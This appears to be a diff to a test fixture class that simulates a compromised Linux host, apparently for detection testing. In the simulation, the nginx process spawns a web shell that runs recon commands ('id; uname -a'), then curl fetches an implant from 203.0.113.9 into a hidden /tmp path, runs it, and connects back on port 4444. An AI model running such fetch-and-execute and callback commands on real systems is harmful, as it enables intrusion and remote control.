@@ -24,10 +24,11 @@ export class Machine {
   readonly container: string;
   readonly #sshd: TestProcess;
   readonly #cron: TestProcess;
-  readonly #web: TestProcess;
+  #web: TestProcess;
   #pid = FIRST_PID;
   #port = 20_000;
   #requests = 0;
+  #implants = 0;
 
   constructor({ number, bootedAt, startedAt, ...identity }: MachineOptions) {
     this.number = number;
@@ -43,9 +44,13 @@ export class Machine {
     host.snapshot(host.init, '/usr/lib/systemd/systemd');
     this.#sshd = host.exec(this.fork(host.init), '/usr/sbin/sshd');
     this.#cron = host.exec(this.fork(host.init), '/usr/sbin/cron');
-    const server = host.fork(host.init, { pid: this.#pid++, cgroup: CONTAINER });
+    this.#web = this.#serveWeb();
+  }
+
+  #serveWeb(): TestProcess {
+    const server = this.host.fork(this.host.init, { pid: this.#pid++, cgroup: CONTAINER });
     server.credentials = credentialsOf(WEB_USER);
-    this.#web = host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
+    return this.host.exec(server, '/usr/sbin/nginx', { credentials: server.credentials });
   }
 
   fork(parent: TestProcess): TestProcess {
@@ -89,19 +94,23 @@ export class Machine {
     return this.#port;
   }
 
-  /** The web server is made to run a shell. */
+  /** The web server, which was just started anew, is made to run a shell. What came of the last one is another story. */
   webShell(): TestProcess {
+    this.host.exit(this.#web);
+    this.#web = this.#serveWeb();
+    this.#implants++;
     return this.spawn(this.#web, '/usr/bin/dash', ['sh', '-c', 'test -f x.png; id; uname -a']);
   }
 
   /** The shell fetches a program and runs it: what it becomes. */
   implant(shell: TestProcess): TestProcess {
     const { host } = this;
-    const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', '/tmp/.x', 'http://203.0.113.9/implant']);
+    const path = `/tmp/.x${this.#implants}`;
+    const curl = this.spawn(shell, '/usr/bin/curl', ['curl', '-s', '-o', path, 'http://203.0.113.9/implant']);
     host.connect(curl, '203.0.113.9', 80, { localAddress: this.address, localPort: this.nextPort() });
-    host.open(curl, '/tmp/.x', O.WRONLY | O.CREAT);
+    host.open(curl, path, O.WRONLY | O.CREAT);
     host.exit(curl);
-    const implant = this.spawn(shell, '/tmp/.x', ['/tmp/.x']);
+    const implant = this.spawn(shell, path, [path]);
     host.connect(implant, '203.0.113.9', 4444, { localAddress: this.address, localPort: this.nextPort() });
     return implant;
   }
